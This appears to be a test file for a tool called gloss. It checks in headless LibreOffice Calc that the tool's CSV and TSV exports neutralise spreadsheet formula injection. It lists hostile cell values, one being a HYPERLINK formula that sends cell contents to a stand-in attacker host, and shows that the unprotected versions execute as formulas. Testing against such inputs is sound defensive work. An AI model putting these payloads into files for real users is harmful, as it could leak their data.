// CSV and TSV opened in a real spreadsheet: LibreOffice Calc, headless, converts gloss's output to a
// flat ODF sheet under the import settings README promises ("Untrusted text"), and no cell may hold a
// formula. The same hostile cells written without gloss's rule are converted beside them and must give
// formulas under every setting: proof that each setting is one where the attack works.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'csv-stringify/sync';
import { gloss, scratch } from './helpers.js';
import { neutraliseFormula } from '../src/output/delimited.js';

/** Cells an attacker would try: every way LibreOffice or another spreadsheet finds a field start. */
const HOSTILE = [
  '=1+1', '+1+1', '-1+1', '@SUM(1)', '\u0000=HYPERLINK("http://evil.example/?"&A1,"x")', ' =3+3', '\t=4+4', '"=5+5"',
  'a;=6*7', 'a,=7+7', 'a =8+8', 'a|=9+9', 'a\n=10+1', 'a\r=11+1', 'a;"=12+1"', 'a; =13+1', ' \t =14+1', '\u00a0=15+1',
  '\u200b=16+1', 'a,"=17+1"', 'a\t"=18+1"', '""=19+1', 'a;;=20+1', '\u0001=21+1', 'a"; "=22+1', 'x;\u0000 "=23+1',
];

/** LibreOffice's CSV filter options: separators (ASCII codes, MRG = merge), text delimiter ", UTF-8, from line 1; token 11 trims spaces. */
const SETTINGS: [string, string | undefined][] = [
  ['default import', undefined],
  ['semicolon', '59,34,76,1'],
  ['tab', '9,34,76,1'],
  ['comma, semicolon, tab, space and |, trim off', '44/59/9/32/124,34,76,1,,,false,true,false,false,false'],
  ['comma, semicolon and tab, trim on', '44/59/9,34,76,1,,,false,true,false,false,true'],
  ['merged comma, semicolon, tab and space, trim on', 'MRG/44/59/9/32,34,76,1,,,false,true,false,false,true'],
];

const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
const missing = soffice.status === 0 ? false : 'LibreOffice Calc (soffice) is not installed: apt-get install libreoffice-calc (.ci/run does)';

function convert(dir: string, options: string | undefined, files: string[]): Promise<{ code: number | null; stderr: string }> {
  // A profile of its own each run: Calc remembers the last CSV settings in its profile, so the
  // "default import" would otherwise be whatever ran before.
  const profile = mkdtempSync(join(dir, 'profile-'));
  const args = ['--headless', `-env:UserInstallation=file://${profile}`, ...(options ? [`--infilter=CSV:${options}`] : []), '--convert-to', 'fods', '--outdir', join(dir, 'out', String(SETTINGS.findIndex(([, o]) => o === options))), ...files];
  return new Promise((resolve, reject) => {
    const child = spawn('soffice', args, { stdio: ['ignore', 'ignore', 'pipe'] });
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stderr }));
  });
}

const formulas = (fods: string) => [...fods.matchAll(/table:formula="([^"]*)"/g)].map((m) => m[1]);

test('no CSV or TSV cell is a formula in LibreOffice Calc, under every promised import setting', { skip: missing, timeout: 600_000 }, async (t) => {
  const dir = scratch('gloss-calc-');
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const corpus = join(dir, 'corpus');
  assert.equal(gloss(['init', corpus]).code, 0);
  // Each hostile cell as an actor's role (free text from the corpus), one row each.
  const registry = readFileSync(join(corpus, 'registry.yaml'), 'utf8').replace(
    'actors:\n',
    `actors:\n${HOSTILE.map((v, i) => `  - {id: h${i}, name: H${i}, type: person, role: ${JSON.stringify(v)}}\n`).join('')}`,
  );
  writeFileSync(join(corpus, 'registry.yaml'), registry);
  const files: string[] = [];
  for (const format of ['csv', 'tsv']) {
    const r = gloss(['--corpus', corpus, 'actors', '--format', format, '--fields', 'id,role']);
    assert.equal(r.code, 0, r.stderr);
    writeFileSync(join(dir, `gloss-${format}.${format}`), r.stdout);
    files.push(join(dir, `gloss-${format}.${format}`));
  }
  const rows = HOSTILE.map((v, i) => [`h${i}`, v]);
  writeFileSync(join(dir, 'raw-csv.csv'), stringify(rows, { record_delimiter: '\r\n', quoted_match: /[\r\n]/ }));
  writeFileSync(join(dir, 'raw-tsv.tsv'), rows.map((r) => `${r.map((c) => c.replace(/[\\\t\n\r]/g, (x) => ({ '\\': '\\\\', '\t': '\\t', '\n': '\\n', '\r': '\\r' })[x]!)).join('\t')}\n`).join(''));
  files.push(join(dir, 'raw-csv.csv'), join(dir, 'raw-tsv.tsv'));

  // One Calc at a time, and a start that fails is tried once more with a fresh profile, saying so in
  // the test's diagnostics: in a full run just after LibreOffice was installed, two of six conversions
  // started at once exited 1 within a second, with nothing to show why (CI's run at c6dea2e failed on its
  // first line, Node 22, alone, most likely so). It did not recur on its own, after a reinstall, nor
  // under load, so its cause is not known; the sheets are checked all the same, and a second failure
  // fails the test with Calc's stderr.
  for (const [, options] of SETTINGS) {
    let run = await convert(dir, options, files);
    if (run.code !== 0) {
      t.diagnostic(`soffice exit ${run.code} (${run.stderr.trim() || 'nothing on stderr'}): tried again`);
      run = await convert(dir, options, files);
    }
    assert.equal(run.code, 0, `soffice exit ${run.code}: ${run.stderr}`);
  }
  for (const [i, [name]] of SETTINGS.entries()) {
    const sheet = (f: string) => readFileSync(join(dir, 'out', String(i), `${f}.fods`), 'utf8');
    for (const format of ['csv', 'tsv']) {
      const raw = sheet(`raw-${format}`);
      const ours = sheet(`gloss-${format}`);
      assert.match(ours, /h25/, `${name}: gloss's ${format} converted whole`);
      assert.ok(formulas(raw).length > 0, `${name}: the unprotected ${format} gives formulas (the setting is a real attack)`);
      assert.deepEqual(formulas(ours), [], `${name}: gloss's ${format} gives none`);
    }
  }
});

test('the rule as a table: a quote before each = + - @ that could begin a field, nothing else touched', () => {
  const cases: [string, string][] = [
    ['=1+1', "'=1+1"],
    ['-1', "'-1"],
    ['\u0000=2', "\u0000'=2"],
    [' =3', " '=3"],
    ['a;=6*7', "a;'=6*7"],
    ['"=7"', "\"'=7\""],
    ['a =8', "a '=8"],
    ['a\n=1', "a\n'=1"],
    ['a; -1', "a; '-1"],
    ['Jean-Pierre said 1+1', 'Jean-Pierre said 1+1'],
    ['2013 - 2017, a @ b', '2013 - 2017, a @ b'],
    ['x"=5"', 'x"=5"'],
  ];
  for (const [cell, expected] of cases) assert.equal(neutraliseFormula(cell), expected, JSON.stringify(cell));
});
